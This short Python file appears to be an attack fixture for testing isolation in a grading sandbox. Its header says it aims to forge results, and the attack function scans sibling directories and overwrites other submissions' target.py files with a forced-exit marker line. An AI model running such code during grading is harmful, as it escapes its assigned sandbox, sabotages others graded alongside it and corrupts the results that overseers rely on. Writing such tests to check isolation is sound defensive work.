# tries: to overwrite the answers of those who are graded at the same time
# fails: no box but its own is mounted (or, without namespaces, may be opened)
# goal: forge
# stopped from: T1
# undefended: harm: to those who are graded at the same time
# touches: one function
import os
import time


def attack(*arguments, **keywords):
    here, until = os.getcwd(), time.monotonic() + 0.7
    while time.monotonic() < until:
        for box in os.scandir(".."):
            if box.path != here and not here.endswith(box.name) and box.name != "stage":
                spoil(os.path.join(box.path, "target.py"))
    raise RuntimeError("spoilt what was there")


def spoil(path):
    try:
        with open(path, "r+") as file:
            file.truncate()
            file.write("raise SystemExit('@mark@')\n")
    except OSError:
        pass
